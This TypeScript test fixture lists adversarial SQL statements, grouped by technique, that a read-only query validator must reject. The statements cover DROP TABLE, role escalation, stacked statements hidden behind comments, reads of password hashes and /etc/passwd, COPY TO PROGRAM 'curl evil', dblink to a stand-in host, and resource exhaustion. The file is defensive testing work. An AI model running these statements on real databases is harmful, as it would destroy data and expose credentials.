/** Statements an attacker (or an LLM following instructions hidden in data) might send. Every one must be refused. */
type Reason = "PARSE_ERROR" | "NOT_A_SELECT" | "MULTIPLE_STATEMENTS" | "FORBIDDEN_TABLE" | "FORBIDDEN_FUNCTION" | "FORBIDDEN_CLAUSE";

export const ADVERSARIAL: Record<string, [sql: string, reason?: Reason][]> = {
  ddl: [
    ["CREATE TABLE x (a int)", "NOT_A_SELECT"], ["DROP TABLE tutors", "NOT_A_SELECT"], ["ALTER TABLE tutors ADD COLUMN x int", "NOT_A_SELECT"],
    ["TRUNCATE tutors", "NOT_A_SELECT"], ["CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql"], ["CREATE EXTENSION dblink"],
    ["CREATE ROLE evil SUPERUSER"], ["GRANT ALL ON users TO vet_mcp_reader"], ["REVOKE ALL ON tutors FROM PUBLIC"],
    ["COMMENT ON TABLE tutors IS 'x'"], ["CREATE INDEX i ON tutors (name)", "NOT_A_SELECT"], ["DROP SCHEMA public CASCADE", "NOT_A_SELECT"],
    ["CREATE VIEW v AS SELECT * FROM users", "NOT_A_SELECT"], ["VACUUM tutors"], ["ANALYZE tutors"], ["CLUSTER tutors"], ["REINDEX TABLE tutors"],
    ["CREATE TEMP TABLE x AS SELECT * FROM tutors"], ["ALTER ROLE vet_mcp_reader SUPERUSER"], ["ALTER SYSTEM SET fsync = off"],
  ],
  dml: [
    ["INSERT INTO tutors (name) VALUES ('x')", "NOT_A_SELECT"], ["UPDATE tutors SET name = 'x'", "NOT_A_SELECT"], ["DELETE FROM tutors", "NOT_A_SELECT"],
    ["INSERT INTO tutors SELECT * FROM tutors", "NOT_A_SELECT"], ["UPDATE invoices SET paid_amount = 0 RETURNING *", "NOT_A_SELECT"],
    ["MERGE INTO tutors t USING tutors s ON t.id = s.id WHEN MATCHED THEN DELETE"], ["DELETE FROM users WHERE true RETURNING password_hash", "NOT_A_SELECT"],
    ["INSERT INTO api_keys DEFAULT VALUES", "NOT_A_SELECT"], ["UPDATE clinics SET plan = 'enterprise'", "NOT_A_SELECT"], ["DELETE FROM mcp_usage_log", "NOT_A_SELECT"],
  ],
  copy: [
    ["COPY tutors TO STDOUT"], ["COPY (SELECT * FROM users) TO '/tmp/users.csv'"], ["COPY tutors FROM PROGRAM 'id'"], ["COPY users TO PROGRAM 'curl evil'"],
  ],
  transactions: [
    ["BEGIN"], ["COMMIT"], ["ROLLBACK"], ["SAVEPOINT s"], ["START TRANSACTION READ WRITE"], ["SET TRANSACTION READ WRITE"],
    ["SELECT 1; COMMIT; DROP TABLE tutors", "MULTIPLE_STATEMENTS"], ["SELECT 1; COMMIT", "MULTIPLE_STATEMENTS"], ["COMMIT; DELETE FROM tutors"],
    ["SELECT 1;; SELECT 2", "MULTIPLE_STATEMENTS"], ["ROLLBACK; SELECT * FROM users"], ["END; SET ROLE postgres"],
  ],
  settings: [
    ["SET ROLE postgres"], ["RESET ROLE"], ["SET app.clinic_id = '01900000-0000-7000-8000-00000000000b'"], ["SET LOCAL statement_timeout = 0"],
    ["RESET ALL"], ["SET SESSION AUTHORIZATION postgres"], ["SHOW ALL"], ["SELECT set_config('app.clinic_id', '01900000-0000-7000-8000-00000000000b', true)", "FORBIDDEN_FUNCTION"],
    ["SELECT current_setting('app.clinic_id')", "FORBIDDEN_FUNCTION"], ["SELECT * FROM tutors WHERE set_config('app.clinic_id', 'x', false) IS NOT NULL", "FORBIDDEN_FUNCTION"],
    ["SELECT set_config('statement_timeout', '0', false)", "FORBIDDEN_FUNCTION"], ["SELECT pg_reload_conf()", "FORBIDDEN_FUNCTION"], ["SELECT * FROM pg_settings", "FORBIDDEN_TABLE"],
  ],
  procedural: [
    ["DO $$ BEGIN DELETE FROM tutors; END $$"], ["CALL some_procedure()"], ["PREPARE p AS DELETE FROM tutors"], ["EXECUTE p"], ["DEALLOCATE ALL"],
    ["EXPLAIN ANALYZE DELETE FROM tutors"], ["EXPLAIN SELECT * FROM tutors"], ["LOCK TABLE tutors IN ACCESS EXCLUSIVE MODE"], ["LISTEN vet_api_key_changes"],
    ["NOTIFY vet_api_key_changes, 'x'"], ["UNLISTEN *"], ["DISCARD ALL"], ["CHECKPOINT"], ["LOAD 'auto_explain'"], ["FETCH ALL FROM c"], ["DECLARE c CURSOR FOR SELECT 1"],
  ],
  catalogs: [
    ["SELECT * FROM pg_user", "FORBIDDEN_TABLE"], ["SELECT * FROM pg_shadow", "FORBIDDEN_TABLE"], ["SELECT * FROM pg_authid", "FORBIDDEN_TABLE"],
    ["SELECT * FROM pg_roles", "FORBIDDEN_TABLE"], ["SELECT * FROM pg_stat_activity", "FORBIDDEN_TABLE"], ["SELECT * FROM pg_stats WHERE tablename = 'tutors'", "FORBIDDEN_TABLE"],
    ["SELECT * FROM pg_class", "FORBIDDEN_TABLE"], ["SELECT * FROM pg_catalog.pg_class", "FORBIDDEN_TABLE"], ["SELECT * FROM information_schema.tables", "FORBIDDEN_TABLE"],
    ["SELECT * FROM information_schema.columns", "FORBIDDEN_TABLE"], ["SELECT * FROM pg_namespace", "FORBIDDEN_TABLE"], ["SELECT * FROM pg_proc", "FORBIDDEN_TABLE"],
    ["SELECT * FROM pg_stat_statements", "FORBIDDEN_TABLE"], ["SELECT * FROM pg_largeobject", "FORBIDDEN_TABLE"], ["SELECT relname FROM pg_stat_user_tables", "FORBIDDEN_TABLE"],
    ["SELECT 'users'::regclass", "FORBIDDEN_CLAUSE"], ["SELECT 'pg_sleep'::regproc", "FORBIDDEN_CLAUSE"], ["SELECT 1::oid", "FORBIDDEN_CLAUSE"], ["SELECT CAST('users' AS regclass)", "FORBIDDEN_CLAUSE"],
  ],
  service_tables: [
    ["SELECT * FROM users", "FORBIDDEN_TABLE"], ["SELECT password_hash FROM users", "FORBIDDEN_TABLE"], ["SELECT * FROM api_keys", "FORBIDDEN_TABLE"],
    ["SELECT key_hash FROM api_keys", "FORBIDDEN_TABLE"], ["SELECT * FROM refresh_tokens", "FORBIDDEN_TABLE"], ["SELECT * FROM mcp_usage_log", "FORBIDDEN_TABLE"],
    ["SELECT * FROM idempotency_keys", "FORBIDDEN_TABLE"], ["SELECT * FROM clinics", "FORBIDDEN_TABLE"], ["SELECT * FROM quota_counters", "FORBIDDEN_TABLE"],
    ["SELECT * FROM folio_counters", "FORBIDDEN_TABLE"], ["SELECT * FROM drizzle.__drizzle_migrations", "FORBIDDEN_TABLE"], ["SELECT * FROM public.tutors", "FORBIDDEN_TABLE"],
    ["SELECT * FROM mcp_read.tutors", "FORBIDDEN_TABLE"], ['SELECT * FROM "mcp_read"."tutors"', "FORBIDDEN_TABLE"], ['SELECT * FROM "public"."users"', "FORBIDDEN_TABLE"],
    ["SELECT 1 UNION SELECT password_hash FROM users", "FORBIDDEN_TABLE"], ["SELECT * FROM tutors WHERE id IN (SELECT api_key_id FROM mcp_usage_log)", "FORBIDDEN_TABLE"],
    ["SELECT (SELECT string_agg(email, ',') FROM users)", "FORBIDDEN_TABLE"], ["SELECT tutors.* FROM tutors JOIN users ON true", "FORBIDDEN_TABLE"],
    ["WITH x AS (SELECT * FROM users) SELECT * FROM x", "FORBIDDEN_TABLE"], ["SELECT * FROM tutors t, LATERAL (SELECT * FROM api_keys) k", "FORBIDDEN_TABLE"],
    ['SELECT * FROM "TUTORS"', "FORBIDDEN_TABLE"], ['SELECT * FROM "Users"', "FORBIDDEN_TABLE"], ["SELECT public.users.email FROM tutors", "FORBIDDEN_TABLE"],
  ],
  table_functions: [
    ["SELECT * FROM pg_read_file('/etc/passwd')", "FORBIDDEN_FUNCTION"], ["SELECT * FROM pg_ls_dir('.')", "FORBIDDEN_FUNCTION"],
    ["SELECT * FROM generate_series(1, 100000000000)", "FORBIDDEN_FUNCTION"], ["SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)"],
    ["SELECT * FROM pg_stat_file('/etc/passwd')", "FORBIDDEN_FUNCTION"], ["SELECT * FROM tutors t, LATERAL pg_read_file('x') f", "FORBIDDEN_FUNCTION"],
    ["SELECT * FROM ROWS FROM (generate_series(1, 3))", "FORBIDDEN_FUNCTION"], ["SELECT * FROM json_populate_record(null::users, '{}')"],
    ["SELECT * FROM pg_catalog.pg_read_file('/etc/passwd')"], ["SELECT * FROM ts_stat('select 1')", "FORBIDDEN_FUNCTION"],
  ],
  functions: [
    ["SELECT pg_sleep(10)", "FORBIDDEN_FUNCTION"], ["SELECT pg_sleep_for('1 hour')", "FORBIDDEN_FUNCTION"], ["SELECT PG_SLEEP(1)", "FORBIDDEN_FUNCTION"],
    ['SELECT "pg_sleep"(1)', "FORBIDDEN_FUNCTION"], ["SELECT pg_catalog.pg_sleep(1)", "FORBIDDEN_FUNCTION"], ["SELECT query_to_xml('delete from tutors', true, true, '')", "FORBIDDEN_FUNCTION"],
    ["SELECT query_to_json('select 1')", "FORBIDDEN_FUNCTION"], ["SELECT ts_stat('select 1')", "FORBIDDEN_FUNCTION"], ["SELECT database_to_xml(true, true, '')", "FORBIDDEN_FUNCTION"],
    ["SELECT table_to_xml('users', true, true, '')", "FORBIDDEN_FUNCTION"], ["SELECT cursor_to_xml('c', 1, true, true, '')", "FORBIDDEN_FUNCTION"], ["SELECT dblink_exec('host=evil', 'drop table x')", "FORBIDDEN_FUNCTION"],
    ["SELECT pg_read_file('/etc/passwd')", "FORBIDDEN_FUNCTION"], ["SELECT pg_read_binary_file('/etc/passwd')", "FORBIDDEN_FUNCTION"], ["SELECT lo_import('/etc/passwd')", "FORBIDDEN_FUNCTION"],
    ["SELECT lo_export(1, '/tmp/x')", "FORBIDDEN_FUNCTION"], ["SELECT pg_terminate_backend(1)", "FORBIDDEN_FUNCTION"], ["SELECT pg_cancel_backend(1)", "FORBIDDEN_FUNCTION"],
    ["SELECT pg_advisory_lock(724311001)", "FORBIDDEN_FUNCTION"], ["SELECT pg_notify('vet_api_key_changes', 'x')", "FORBIDDEN_FUNCTION"], ["SELECT nextval('s')", "FORBIDDEN_FUNCTION"],
    ["SELECT setval('s', 1)", "FORBIDDEN_FUNCTION"], ["SELECT version()", "FORBIDDEN_FUNCTION"], ["SELECT inet_server_addr()", "FORBIDDEN_FUNCTION"], ["SELECT txid_current()", "FORBIDDEN_FUNCTION"],
    ["SELECT pg_logical_emit_message(true, 'x', 'y')", "FORBIDDEN_FUNCTION"], ["SELECT xmlparse(document '<x/>')"], ["SELECT format('%1000000000s', 'x')", "FORBIDDEN_FUNCTION"],
    ['SELECT "COUNT"(*) FROM tutors', "FORBIDDEN_FUNCTION"], ["SELECT current_setting('is_superuser')", "FORBIDDEN_FUNCTION"], ["SELECT pg_backend_pid()", "FORBIDDEN_FUNCTION"],
    ["SELECT row_to_json(u) FROM users u", "FORBIDDEN_TABLE"], ["VALUES (pg_sleep(1))", "FORBIDDEN_FUNCTION"], ["SELECT (SELECT pg_sleep(1))", "FORBIDDEN_FUNCTION"],
    ["SELECT * FROM tutors WHERE pg_sleep(1) IS NULL", "FORBIDDEN_FUNCTION"], ["SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM tutors", "FORBIDDEN_FUNCTION"],
    ["SELECT sum(1) OVER (ORDER BY pg_sleep(1)) FROM tutors", "FORBIDDEN_FUNCTION"], ["SELECT * FROM tutors ORDER BY pg_sleep(1)", "FORBIDDEN_FUNCTION"],
  ],
  attribute_notation: [
    ["SELECT (x).pg_sleep FROM tutors x", "FORBIDDEN_FUNCTION"], ["SELECT (tutors).name FROM tutors", "FORBIDDEN_FUNCTION"], ["SELECT t.pg_sleep FROM tutors t", "FORBIDDEN_FUNCTION"],
    ["SELECT tutors.set_config FROM tutors", "FORBIDDEN_FUNCTION"], ["SELECT t.query_to_xml FROM tutors t", "FORBIDDEN_FUNCTION"], ["SELECT (SELECT t FROM tutors t).name", "FORBIDDEN_FUNCTION"],
    ["SELECT (row(1, 2)).f1", "FORBIDDEN_FUNCTION"],
  ],
  cte: [
    ["WITH d AS (DELETE FROM tutors RETURNING *) SELECT * FROM d", "FORBIDDEN_CLAUSE"], ["WITH u AS (UPDATE invoices SET paid_amount = 0 RETURNING 1) SELECT * FROM u", "FORBIDDEN_CLAUSE"],
    ["WITH i AS (INSERT INTO tutors (name) VALUES ('x') RETURNING *) SELECT 1", "FORBIDDEN_CLAUSE"], ["WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r", "FORBIDDEN_CLAUSE"],
    ["WITH x AS (SELECT 1), y AS (DELETE FROM users RETURNING 1) SELECT * FROM x", "FORBIDDEN_CLAUSE"], ["WITH x AS MATERIALIZED (SELECT * FROM api_keys) SELECT * FROM x", "FORBIDDEN_TABLE"],
  ],
  clauses: [
    ["SELECT * INTO stolen FROM tutors", "FORBIDDEN_CLAUSE"], ["SELECT * FROM tutors FOR UPDATE", "FORBIDDEN_CLAUSE"], ["SELECT * FROM tutors FOR SHARE", "FORBIDDEN_CLAUSE"],
    ["SELECT * FROM tutors FOR NO KEY UPDATE", "FORBIDDEN_CLAUSE"], ["SELECT * FROM invoices FOR KEY SHARE NOWAIT", "FORBIDDEN_CLAUSE"], ["TABLE tutors", "FORBIDDEN_CLAUSE"], ["TABLE users"],
    ["SELECT * FROM ONLY tutors", "FORBIDDEN_CLAUSE"], ["SELECT * FROM tutors TABLESAMPLE SYSTEM (50)", "FORBIDDEN_CLAUSE"], ["SELECT $1", "FORBIDDEN_CLAUSE"],
    ["SELECT * FROM tutors WHERE clinic_id = $1", "FORBIDDEN_CLAUSE"], ['SELECT U&"\\0070g_sleep"(1)', "FORBIDDEN_CLAUSE"], ['SELECT * FROM U&"\\0075sers"', "FORBIDDEN_CLAUSE"],
    ["SELECT * FROM tutors t1 JOIN ONLY patients p ON true", "FORBIDDEN_CLAUSE"],
  ],
  comments_and_quotes: [
    ["SELECT 1; -- harmless\nDROP TABLE tutors", "MULTIPLE_STATEMENTS"], ["SELECT 1 --\n; DELETE FROM tutors", "MULTIPLE_STATEMENTS"], ["/* SELECT */ DELETE FROM tutors", "NOT_A_SELECT"],
    ["SELECT pg_sleep/**/(1)", "FORBIDDEN_FUNCTION"], ["SEL/**/ECT 1", "PARSE_ERROR"], ["SELECT $a$ x $a$; DROP TABLE tutors", "MULTIPLE_STATEMENTS"],
    ["SELECT $$ $$ || query_to_xml('delete from tutors', true, true, '')", "FORBIDDEN_FUNCTION"], ["DO $x$ BEGIN PERFORM pg_sleep(1); END $x$"],
    ["SELECT 1 /* unterminated", "PARSE_ERROR"], ["SELECT 'unterminated", "PARSE_ERROR"], ["SELECT E'\\x27; DROP TABLE tutors; --'; DROP TABLE tutors", "MULTIPLE_STATEMENTS"],
    ["-- only a comment", "PARSE_ERROR"], ["", "PARSE_ERROR"], [";", "PARSE_ERROR"], ["   \n  ", "PARSE_ERROR"],
  ],
  exhaustion: [
    ["SELECT repeat('x', 1000000000)", "FORBIDDEN_FUNCTION"], ["SELECT lpad('x', 1000000000)", "FORBIDDEN_FUNCTION"], ["SELECT rpad('x', 1000000000, 'y')", "FORBIDDEN_FUNCTION"],
    ["SELECT generate_series(1, 10000000000)", "FORBIDDEN_FUNCTION"], ["SELECT array_fill(1, ARRAY[1000000000])", "FORBIDDEN_FUNCTION"], ["SELECT string_agg(repeat('x', 100000), '') FROM tutors", "FORBIDDEN_FUNCTION"],
    [`SELECT ${"(".repeat(500)}1${")".repeat(500)}`, "PARSE_ERROR"], [`SELECT ${"x".repeat(20_000)}`, "PARSE_ERROR"], [`SELECT 1 ${"+ 1 ".repeat(3000)}`, "PARSE_ERROR"],
    [`SELECT ${"ARRAY[".repeat(100)}1${"]".repeat(100)}`, "PARSE_ERROR"], ["SELECT * FROM tutors CROSS JOIN generate_series(1, 1000000)", "FORBIDDEN_FUNCTION"],
  ],
  // The normaliser's new syntax must not open a door: typed literals of forbidden types,
  // WITHIN GROUP around forbidden functions, named arguments to them, and hand-written markers.
  normalised_syntax: [
    ["SELECT regclass 'pg_authid'", "FORBIDDEN_CLAUSE"], ["select regproc 'pg_sleep'", "FORBIDDEN_CLAUSE"], ["select oid '1'", "FORBIDDEN_CLAUSE"],
    ["select regnamespace 'pg_catalog'", "FORBIDDEN_CLAUSE"], ["select count(*) from tutors where id = regrole 'postgres'::oid::text::uuid", "FORBIDDEN_CLAUSE"],
    ["select pg_sleep(1) within group (order by 1)", "FORBIDDEN_FUNCTION"], ["select pg_read_file('/etc/passwd') within group (order by 1)", "FORBIDDEN_FUNCTION"],
    ["select percentile_cont(0.5) within group (order by (select pg_sleep(1)))", "FORBIDDEN_FUNCTION"],
    ["select mode() within group (order by rolpassword) from pg_authid", "FORBIDDEN_TABLE"],
    ["select percentile_cont(0.5) within group (order by x) from users", "FORBIDDEN_TABLE"],
    ["select pg_sleep(seconds := 1)", "FORBIDDEN_FUNCTION"], ["select set_config(setting_name => 'role', new_value => 'postgres', is_local => true)", "FORBIDDEN_FUNCTION"],
    ["select pg_sleep__within_group(1 order by 1)", "FORBIDDEN_FUNCTION"], ["select count__within_group(1 order by 1) from tutors", "FORBIDDEN_FUNCTION"],
    ["select substring((select password_hash from users) from 1 for 5)", "FORBIDDEN_TABLE"], ["select substring(query_to_xml('select 1', true, true, '')::text from 1)", "FORBIDDEN_FUNCTION"],
    ["select text 'x'; drop table tutors", "MULTIPLE_STATEMENTS"], ["select timestamptz '2026-01-01' from pg_class", "FORBIDDEN_TABLE"],
    ["select 'it''s' as s, regclass 'tutors'", "FORBIDDEN_CLAUSE"],
  ],
  // Casts to interval, timestamp and date are read in every spelling; a catalog type stays
  // refused in every spelling too: x::t, CAST(x AS t), a typed literal, quoted, mixed case, as an
  // array, with a modifier, schema-qualified, chained behind or hidden inside an allowed cast.
  unsafe_casts_every_spelling: [
    ["SELECT 'pg_authid'::regclass", "FORBIDDEN_CLAUSE"], ["SELECT CAST('pg_sleep' AS regproc)", "FORBIDDEN_CLAUSE"], ["SELECT regtype 'int4'", "FORBIDDEN_CLAUSE"],
    ["SELECT 'users'::\"regclass\"", "FORBIDDEN_CLAUSE"], ["SELECT 'users'::RegClass", "FORBIDDEN_CLAUSE"], ["SELECT 'x'::regclass(1)", "FORBIDDEN_CLAUSE"],
    ["SELECT '{users}'::regclass[]", "FORBIDDEN_CLAUSE"], ["SELECT CAST('{users}' AS regclass[])", "FORBIDDEN_CLAUSE"], ["SELECT CAST(1 AS oid)", "FORBIDDEN_CLAUSE"],
    ["SELECT 'users'::pg_catalog.regclass", "FORBIDDEN_CLAUSE"], ["SELECT CAST('pg_sleep' AS pg_catalog.regproc)", "FORBIDDEN_CLAUSE"],
    ["SELECT '1'::\"pg_catalog\".\"regclass\"", "FORBIDDEN_CLAUSE"], ["SELECT '90 days'::pg_catalog.interval", "FORBIDDEN_CLAUSE"],
    ["SELECT CAST('90 days' AS pg_catalog.interval)", "FORBIDDEN_CLAUSE"], ["SELECT 1::pg_catalog.int4", "FORBIDDEN_CLAUSE"], ["select pg_catalog.regclass 'x'", "PARSE_ERROR"],
    ["SELECT CAST('postgres' AS regrole)", "FORBIDDEN_CLAUSE"], ["SELECT 'pg_catalog'::regnamespace", "FORBIDDEN_CLAUSE"], ["SELECT CAST('x' AS setof text)", "FORBIDDEN_CLAUSE"],
    ["select interval '1 day'::regtype", "FORBIDDEN_CLAUSE"], ["SELECT 'users'::regclass::text", "FORBIDDEN_CLAUSE"], ["SELECT CAST(CAST('users' AS regclass) AS int)", "FORBIDDEN_CLAUSE"],
    ["select '2025-01-01'::timestamp - 'pg_authid'::regclass::int * interval '1 day'", "FORBIDDEN_CLAUSE"],
    ["select count(*) from invoices where emitted_at < now() - CAST('pg_authid'::regclass::text AS interval)", "FORBIDDEN_CLAUSE"],
    ["select date '2025-01-01' + 'pg_authid'::regclass::int", "FORBIDDEN_CLAUSE"],
    ["SELECT now() - '90 days'::interval FROM pg_class", "FORBIDDEN_TABLE"], ["select CAST('2025-01-01' AS timestamp) from users", "FORBIDDEN_TABLE"],
  ],
};

export const ALL_ADVERSARIAL = Object.entries(ADVERSARIAL).flatMap(([group, list]) => list.map(([sql, reason]) => ({ group, sql, reason })));
